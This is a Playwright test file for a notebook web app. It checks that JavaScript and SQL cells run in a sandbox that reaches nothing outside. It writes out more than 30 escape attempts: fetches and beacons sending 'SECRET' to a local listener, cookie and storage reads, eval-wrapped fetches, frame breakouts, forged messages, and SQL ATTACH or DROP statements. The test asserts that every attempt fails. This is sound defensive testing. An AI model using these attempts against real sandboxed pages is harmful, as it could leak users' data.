import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import type { Locator, Page } from '@playwright/test';

/** A port that counts whoever knocks, by TCP or UDP. */
async function listener(): Promise<{
  readonly port: number;
  readonly knocks: string[];
  readonly close: () => void;
}> {
  const knocks: string[] = [];
  const server = createServer((socket) => {
    knocks.push('tcp');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const udp = createSocket('udp4', () => knocks.push('udp'));
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  return {
    port,
    knocks,
    close: () => {
      server.close();
      udp.close();
    },
  };
}

/** Attempts of a script, each by its name: what it gives, unless it throws, is a success. */
const attempts = (outside: string, own: string): Readonly<Record<string, string>> => ({
  'fetch of another host': `fetch('${outside}')`,
  'fetch of another host without an answer': `fetch('${outside}', { mode: 'no-cors' })`,
  'fetch of this site': `fetch('${own}')`,
  'request by XMLHttpRequest': `new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open('GET', '${own}'); x.send(); })`,
  beacon: `navigator.sendBeacon('${outside}', 'SECRET')`,
  'web socket': `new Promise((resolve, reject) => { const w = new WebSocket('${outside.replace('http', 'ws')}'); w.onopen = resolve; w.onerror = reject; })`,
  'event source': `new Promise((resolve, reject) => { const e = new EventSource('${outside}'); e.onopen = resolve; e.onerror = reject; })`,
  'web transport': `new WebTransport('https://127.0.0.1/').ready`,
  'script of this site': `importScripts('${own}')`,
  'script of another host': `importScripts('${outside}')`,
  'import from a host': `import('${outside}')`,
  'import from this site': `import('${own}')`,
  'import made of text': `import('data:text/javascript,1')`,
  'worker within': `new Worker('${own}')`,
  'shared worker': `new SharedWorker('${own}')`,
  IndexedDB: `new Promise((resolve, reject) => { const o = indexedDB.open('x'); o.onsuccess = resolve; o.onerror = reject; })`,
  caches: `caches.open('x')`,
  'private files': `navigator.storage.getDirectory()`,
  'local storage': `localStorage.length`,
  cookies: `document.cookie`,
  'cookie store': `cookieStore.getAll()`,
  'parent page': `parent.document.title`,
  'top page': `top.location.href`,
  opener: `opener.document`,
  'navigation to another host': `location.assign('${outside}')`,
  'navigation within this site': `location.replace('${own}')`,
  window: `window.open('${own}')`,
  image: `(new Image()).src = '${outside}'`,
  style: `document.head.append('<link rel=preconnect href="${outside}">')`,
  form: `document.createElement('form').submit()`,
  'child frame': `document.createElement('iframe').srcdoc = '1'`,
  WebRTC: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] })`,
  'fetch by a function of a string': `new Function('return fetch("${outside}")')()`,
  'fetch by eval within eval': `eval("eval('fetch(\\"${outside}\\")')")`,
  'fetch by the constructor of a constructor': `(async () => {}).constructor('return fetch("${outside}")')()`,
  'analysis that is none': `postMessage({ kind: 'ask', run: 1, ask: 1, analysis: '../study' }) ?? Promise.reject(1)`,
});

/** Attempts of the frame itself, had a script ever come that far; each is given the address to reach. */
const inFrame = (outside: string): readonly string[] => {
  const tries: readonly (() => unknown)[] = [
    () => fetch(outside, { mode: 'no-cors' }),
    () => navigator.sendBeacon(outside, 'SECRET'),
    () => (new Image().src = outside),
    () => open(outside),
    () => localStorage.length,
    () => document.cookie,
    () => parent.document.title,
    () => {
      const child = document.createElement('iframe');
      child.srcdoc = '<script>parent.isOut = 1</' + 'script>';
      document.body.append(child);
    },
    () => {
      const link = Object.assign(document.createElement('link'), { rel: 'preconnect', href: outside });
      document.head.append(link);
    },
    () => {
      const form = Object.assign(document.createElement('form'), { action: outside, method: 'post' });
      document.body.append(form);
      form.submit();
    },
    () => import(/* @vite-ignore */ outside),
  ];
  const got: string[] = [];
  for (const attempt of tries)
    try {
      const made = attempt();
      if (made instanceof Promise) made.catch(() => undefined);
      else if (typeof made === 'string' && made !== outside) got.push(String(attempt));
    } catch {
      // Refused at once: as it should.
    }
  for (const name of Object.getOwnPropertyNames(self)) if (/RTC|WebTransport/.test(name)) got.push(name);
  return got;
};

async function write(page: Page, cell: Locator, text: string): Promise<void> {
  await cell.locator('.cell-editor').click();
  await cell.locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText(text);
}

async function run(page: Page, cell: Locator, text: string, state: string): Promise<void> {
  await write(page, cell, text);
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(cell.locator('[data-state]')).toHaveAttribute('data-state', state, { timeout: 90_000 });
}

test('JavaScript cells compute, draw and end, and reach nothing', async ({ page, baseURL, context }) => {
  const { port, knocks, close } = await listener();
  const outside = `http://127.0.0.1:${port}/SECRET`;
  const own = `${baseURL}/?SECRET`;
  const asked: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  // The browser tells of those as well that the policy ends before they begin.
  const ended = new Map<string, string>();
  context.on('requestfailed', (request) =>
    ended.set(`${request.url()} ${request.resourceType()}`, request.failure()?.errorText ?? ''),
  );
  const answered: string[] = [];
  context.on('response', (response) => answered.push(response.url()));

  await page.goto('/notebook/');
  await expect(page.locator('[data-cell]').first()).toBeVisible();
  await page.getByLabel('Study:').selectOption('yellow-pages');
  await page.getByRole('button', { name: 'Add JavaScript' }).first().click();
  const script = page.locator('.cell-javascript').first();
  await expect(script.locator('.cm-content')).toBeVisible();
  // Nothing of what runs scripts was fetched for a cell that has not run.
  expect(asked.filter((url) => /frame\.html|plot-library|duckdb/.test(url))).toEqual([]);

  await test.step('a loop without end leaves the page alive, and is stopped', async () => {
    await run(page, script, 'while (true) {}', 'running');
    await page.getByRole('button', { name: 'Add text' }).first().click();
    await script.getByRole('button', { name: 'Stop' }).click();
    await expect(script.locator('[data-state]')).toHaveAttribute('data-state', 'stopped');
    await run(page, script, 'const four = 2 + 2', 'done');
    await expect(script.locator('.cell-value')).toHaveText('4');
    await expect(script.locator('.cell-declared')).toHaveText('four');
  });

  await test.step('no attempt of a script succeeds', async () => {
    const list = Object.entries(attempts(outside, own));
    const tries = list.map(([name, code]) => `['${name}', async () => (${code})]`).join(',\n');
    await run(
      page,
      script,
      `const late = () => new Promise((_, reject) => setTimeout(() => reject('nothing came'), 1500));
const got = [];
for (const [name, attempt] of [\n${tries}\n])
  try { const value = await Promise.race([attempt(), late()]); if (value !== false) got.push(name + ': ' + value); } catch {}
display(got.join('; ') || 'nothing')`,
      'done',
    );
    await expect(script.locator('.cell-value')).toHaveText('nothing');
    expect(list.length).toBeGreaterThan(30);
  });

  await test.step('forged and countless messages are no more than a failure of the cell', async () => {
    await run(
      page,
      script,
      'for (let i = 0; i < 100000; i++) postMessage({ kind: "done", run: -1 }); 1',
      'failed',
    );
    await run(
      page,
      script,
      'for (let run = 0; run < 9; run++) postMessage({ kind: "done", run, value: { kind: "html", html: "<img onerror=1>" }, shown: [], seconds: 1 }); 1',
      'failed',
    );
    await run(page, script, '"<b>bold</b>"', 'done');
    await expect(script.locator('.cell-value')).toHaveText('<b>bold</b>');
  });

  await test.step('rows, a chart and an analysis', async () => {
    await run(
      page,
      script,
      'const chart = Plot.plot({ title: "Means", marks: [Plot.barX(means, { x: "mean", y: (row) => row.item })] })',
      'done',
    );
    const picture = script.locator('.cell-drawing img').first();
    await expect(picture).toBeVisible();
    await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(640);
    await run(page, script, 'Object.keys(await index()).length > 0', 'done');
    await expect(script.locator('.cell-value')).toHaveText('true');
  });

  await test.step('SQL reaches nothing either', async () => {
    const size = page.locator('[data-cell="size"]');
    for (const text of [
      'LOAD httpfs',
      `ATTACH '${outside}' AS x`,
      "COPY (SELECT 1) TO 'x.csv'",
      `FROM read_csv('${outside}')`,
      'DROP VIEW scores',
      'UPDATE answers SET overall = 1',
    ])
      await run(page, size, text, 'failed');
    await run(page, size, 'SELECT count(*) > 0 AS there FROM scores', 'done');
    await expect(size.locator('tbody td').first()).toHaveText('true');
  });

  await test.step('the frame opened by itself runs nothing', async () => {
    const answers = await page.evaluate(async () => {
      const tab = open('/notebook/frame.html');
      await new Promise((resolve) => setTimeout(resolve, 1500));
      const { port1, port2 } = new MessageChannel();
      const heard: unknown[] = [];
      port1.onmessage = ({ data }) => heard.push(data);
      tab?.postMessage(null, '*', [port2]);
      port1.postMessage(['start', 'postMessage(1)']);
      await new Promise((resolve) => setTimeout(resolve, 1500));
      tab?.close();
      return heard;
    });
    expect(answers).toEqual([]);
  });

  await test.step('nor does the frame reach anything; gone elsewhere, it is taken away', async () => {
    const frame = page.frames().find((one) => one.url().includes('frame.html'))!;
    expect(await frame.evaluate(inFrame, outside)).toEqual([]);
    await page.waitForTimeout(500);
    expect(await frame.evaluate('self.isOut')).toBeUndefined();
    await frame.evaluate((address) => {
      document.head.innerHTML = `<meta http-equiv="refresh" content="0;url=${address}">`;
    }, own);
    await page.waitForTimeout(500);
    await page
      .frames()
      .find((one) => one !== page.mainFrame())
      ?.evaluate((address) => {
        location.href = address;
      }, own)
      .catch(() => undefined);
    await expect(page.locator('iframe')).toHaveCount(0);
    await run(page, script, '1 + 1', 'failed');
    await expect(script.getByRole('alert')).toContainText('load the page again');
  });

  await page.reload();
  await expect(page.locator('[data-cell]').first()).toBeVisible();
  await page.getByLabel('Study:').selectOption('yellow-pages');
  await expect(script.locator('.cell-editor')).toHaveText('1 + 1');
  await expect(page.locator('iframe')).toHaveCount(0);
  const secrets = [...ended].filter(([request]) => request.includes('SECRET'));
  expect(secrets.filter(([, why]) => why !== 'csp')).toEqual([]);
  expect(answered.filter((url) => url.includes('SECRET'))).toEqual([]);
  expect(knocks).toEqual([]);
  close();
});
